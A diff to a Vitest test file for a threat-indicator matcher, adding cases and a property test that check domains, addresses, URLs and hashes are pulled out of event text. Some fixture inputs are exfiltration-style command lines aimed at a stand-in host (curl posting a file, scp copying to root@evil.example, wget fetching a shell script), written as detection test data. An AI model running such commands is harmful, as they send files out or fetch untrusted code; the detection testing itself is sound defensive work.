@@ -1,7 +1,8 @@
+import * as fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { IndicatorSet } from "./indicator-set.ts";
 import type { Entry } from "./indicator-set.ts";
-import { normalizeIndicator } from "./normalize.ts";
+import { normalizeIndicator, parseUrl, readUrl, toDomain } from "./normalize.ts";
 
 const NOW = Date.UTC(2026, 2, 1);
 const MD5 = "44d88612fea8a8f36de82e1278abb02f";
@@ -47,6 +48,10 @@ describe("E-6: an event meets an indicator", () => {
     ["a domain below", "https://a.b.EVIL.example./x?y", ["evil.example"]],
     ["a domain in an argument", "curl -d @f --url=evil.example:8443/in", ["evil.example"]],
     ["a login", "scp f root@evil.example:/tmp", ["evil.example"]],
+    ["a host of another scheme", "redis://:pw@evil.example:6379/0", ["evil.example"]],
+    ["an address of another scheme", "wss://[2001:db8:1::4]:9/x", ["2001:db8:1::/48"]],
+    ["between the colours of a terminal", "\u001b[31mevil.example\u001b[0m", ["evil.example"]],
+    ["between NULs", "\u0000203.0.113.7\u0000", ["203.0.113.7"]],
     ["a URL, also with a query", "wget 'https://files.example/a.sh?x=1'", ["https://files.example/a.sh"]],
     ["a hash", { sha: `md5:${MD5.toUpperCase()}` }, [MD5]],
     ["a hash in a name", `MD5=${MD5}`, [MD5]],
@@ -130,4 +135,18 @@ describe("E-6: an event meets an indicator", () => {
       expect([piece, process.cpuUsage(before).user < 1_500_000]).toEqual([piece, true]);
     }
   });
+});
+
+it("E-6: a URL that is plain reads as the parser reads it", () => {
+  const host = fc
+    .array(fc.stringMatching(/^[a-z][a-z0-9-]{0,4}$/), { minLength: 1, maxLength: 4 })
+    .map((parts) => parts.join("."));
+  const pathname = fc.stringMatching(/^(\/[A-Za-z0-9_.~%-]{0,3}){0,4}$/);
+  const property = fc.property(fc.constantFrom("http", "https"), host, pathname, (scheme, name, rest) => {
+    const text = `${scheme}://${name}${rest}`;
+    const read = readUrl(text);
+    expect({ ...read, isDomain: false }).toEqual({ ...parseUrl(text), isDomain: false });
+    expect(read?.isDomain === true ? toDomain(read.host) : read?.host).toBe(read?.host);
+  });
+  fc.assert(property, { numRuns: 1_000 });
 });
